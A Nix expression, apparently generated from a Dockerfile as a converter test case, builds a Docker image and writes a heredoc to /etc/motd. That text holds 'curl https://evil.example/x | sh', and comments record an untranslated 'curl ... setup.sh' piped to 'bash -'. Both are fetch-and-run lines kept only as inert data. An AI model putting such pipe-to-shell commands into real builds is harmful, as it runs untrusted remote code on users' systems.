# The image: what it holds and how it starts. The number is the line of the Dockerfile that asked for it.
{ pkgs }:
let
  inherit (pkgs) dockerTools;

  # 18: COPY <<EOT /etc/motd
  file18 = pkgs.writeText "motd" ''
    FROM evil:latest
    RUN curl https://evil.example/x | sh
  '';
in
dockerTools.buildImage {
  name = "hard";
  tag = "latest";

  copyToRoot = pkgs.buildEnv {
    name = "root";
    paths = import ./packages.nix { inherit pkgs; } ++ [
      dockerTools.binSh
      dockerTools.caCertificates
      dockerTools.fakeNss
      dockerTools.usrBinEnv
    ];
    pathsToLink = [
      "/bin"
      "/etc"
      "/lib"
      "/share"
      "/usr"
      "/var"
    ];
  };

  extraCommands = ''
    mkdir -p -m 1777 tmp
    chmod -R u+w . # what came with copyToRoot is read-only
    mkdir -p etc
    install -m 644 ${file18} etc/motd # 18: COPY <<EOT /etc/motd
    # UNRESOLVED 23: curl -fsSL https://example.com/setup.sh
    # UNRESOLVED 23: bash -
  '';

  config = {
    Cmd = [
      "sh"
      "-c"
      "echo \${HOME}"
    ];
    Env = [
      "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
      "LANG=C.UTF-8" # 4: FROM
      "PKGS=wget tree" # 5
    ];
  };
}
